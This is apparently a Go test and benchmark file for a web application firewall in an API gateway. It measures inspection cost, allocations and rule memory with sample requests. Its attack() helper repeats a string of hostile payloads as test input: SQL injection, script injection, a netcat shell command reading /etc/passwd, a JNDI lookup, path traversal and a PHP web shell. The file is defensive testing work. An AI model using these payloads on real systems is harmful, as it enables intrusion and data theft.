package waf_test

import (
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/gatehouse-api/gatehouse/internal/validate/waf"
)

// ordinary is a client's request as they come: a path, five values of a query,
// eight header fields with a token of 650 bytes.
func ordinary() waf.Message {
	token := "eyJhbGciOiJFUzI1NiIsInR5cCI6ImF0K2p3dCJ9." + strings.Repeat("eyJpc3MiOiJodHRwczovL2V4YW1wbGUuY29tIiwic3ViIjoiMTIzNDU2Nzg5MCJ9", 8) + ".c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmUtc2lnbmF0dXJl"
	return waf.Message{
		Address: "192.0.2.1", Method: "GET", Protocol: "HTTP/1.1",
		Target: "/orders/2f1c8f5e-8d4b-4a37-9d0a-1c2b3d4e5f60?status=open&limit=20&sort=-created&q=blue+shoes&from=2026-01-01",
		Header: []waf.Field{
			{Name: "Host", Value: "api.example.com"},
			{Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"},
			{Name: "Accept", Value: "application/json"},
			{Name: "Accept-Encoding", Value: "gzip, deflate, br"},
			{Name: "Accept-Language", Value: "en-GB,en;q=0.9"},
			{Name: "Authorization", Value: "Bearer " + token},
			{Name: "X-Request-Id", Value: "8c6f3e1c-57c1-4a4e-9d1e-0a9b8c7d6e5f"},
			{Name: "Cache-Control", Value: "no-cache"},
		},
	}
}

func posted(body string) waf.Message {
	m := ordinary()
	m.Method, m.Target, m.Body = "POST", "/orders", []byte(body)
	m.Header = append(m.Header, waf.Field{Name: "Content-Type", Value: "application/json"}, waf.Field{Name: "Content-Length", Value: fmt.Sprint(len(body))})
	return m
}

const order = `{"customer":"2f1c8f5e-8d4b-4a37-9d0a-1c2b3d4e5f60","currency":"EUR","note":"Please leave it at the door, thanks",` +
	`"address":{"street":"12 Rue de l'Abbaye","city":"Paris","zip":"75006","country":"FR"},` +
	`"items":[{"sku":"AB-1234","quantity":2,"price":19.99},{"sku":"CD-5678","quantity":1,"price":5}],"coupon":"WELCOME10","express":true}`

// text is n bytes of harmless prose, with quotes and parentheses.
func text(n int) string {
	words := strings.Fields("the customer's parcel was delivered on Monday (see the note), and we don't know whether one of these two tables or a group of items on that list should be changed; price: 12.50 & more, 'quoted words' etc. Insert the card and drop it into the box")
	var b strings.Builder
	for i := 0; b.Len() < n; i++ {
		b.WriteString(words[(i*7+i/13)%len(words)] + " ")
	}
	return b.String()[:n]
}

func attack(n int) string {
	const bad = `' or 1=1 union select * from users-- <script>alert(1)</script> ; cat /etc/passwd | nc -e /bin/sh ${jndi:ldap://x} ../../etc/passwd <?php system($_GET[1]) ?> %27 &lt; {{7*7}} __proto__ `
	return strings.Repeat(bad, n/len(bad)+1)[:n]
}

func BenchmarkRequest(b *testing.B) {
	for _, level := range []int{1, 4} {
		r, err := waf.Load(waf.Config{Paranoia: level})
		if err != nil {
			b.Fatal(err)
		}
		for _, c := range []struct {
			name string
			m    func(i int) waf.Message
			n    int // different messages
		}{
			{"get", func(int) waf.Message { return ordinary() }, 1},
			{"json", func(int) waf.Message { return posted(order) }, 1},
			{"json, values never seen", func(i int) waf.Message {
				return posted(strings.NewReplacer("Please", fmt.Sprintf("Hello %d", i), "Abbaye", fmt.Sprintf("Abbaye %d", i), "2f1c8f5e", fmt.Sprintf("%08x", i*7919), "1234", fmt.Sprint(i)).Replace(order))
			}, 5000},
			{"8 KiB of prose", func(int) waf.Message { return posted(fmt.Sprintf(`{"text":%q}`, text(8<<10))) }, 1},
			{"64 KiB of prose", func(int) waf.Message { return posted(fmt.Sprintf(`{"text":%q}`, text(64<<10))) }, 1},
			{"64 KiB of attacks", func(int) waf.Message { return posted(fmt.Sprintf(`{"text":%q}`, attack(64<<10))) }, 1},
		} {
			b.Run(fmt.Sprintf("PL%d/%s", level, c.name), func(b *testing.B) {
				facts := make([]waf.Facts, c.n)
				for i := range facts {
					m := c.m(i)
					facts[i].Read(&m)
				}
				var v waf.Verdict
				r.Request(&facts[0], &v)
				b.ReportAllocs()
				for i := 0; b.Loop(); i++ {
					v.Reset()
					r.Request(&facts[i%len(facts)], &v)
				}
				b.ReportMetric(float64(v.Cost), "cost")
			})
		}
	}
}

func BenchmarkLoad(b *testing.B) {
	b.ReportAllocs()
	for b.Loop() {
		if _, err := waf.Load(waf.Config{Paranoia: 4}); err != nil {
			b.Fatal(err)
		}
	}
}

func TestAllocsOfAWarmQuietRequest(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector allocates")
	}
	r, err := waf.Load(waf.Config{Paranoia: 1})
	if err != nil {
		t.Fatal(err)
	}
	for name, m := range map[string]waf.Message{"a GET": ordinary(), "a JSON body": posted(order)} {
		var f waf.Facts
		f.Read(&m)
		var v waf.Verdict
		for range 4 { // what comes again is remembered
			v.Reset()
			r.Request(&f, &v)
		}
		if n := testing.AllocsPerRun(200, func() { v.Reset(); r.Request(&f, &v) }); n > 0 || len(v.Hits) > 0 || v.Over {
			t.Errorf("%s: %v allocations, %s, over %v", name, n, saysOf(&v), v.Over)
		}
	}
}

func TestAllocsOfRulesOfAllLevels(t *testing.T) {
	if raceEnabled {
		t.Skip("the race detector has memory of its own")
	}
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	began := time.Now()
	r, err := waf.Load(waf.Config{Paranoia: 4})
	if err != nil {
		t.Fatal(err)
	}
	took := time.Since(began)
	for i := range 300 { // and what messages make of it
		m := posted(strings.ReplaceAll(order, "door", fmt.Sprintf("door %d %s", i, attack(i))))
		_ = ask(r, &m, new(waf.Facts))
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	if mib := (int64(after.HeapAlloc) - int64(before.HeapAlloc)) >> 20; mib > 60 {
		t.Errorf("rules take %d MiB", mib)
	} else {
		t.Logf("%d rules take %d MiB, loaded in %v", r.Len(), mib, took)
	}
	if took > 5*time.Second { // 0.3 on an idle machine
		t.Errorf("loading took %v", took)
	}
	runtime.KeepAlive(r)
}
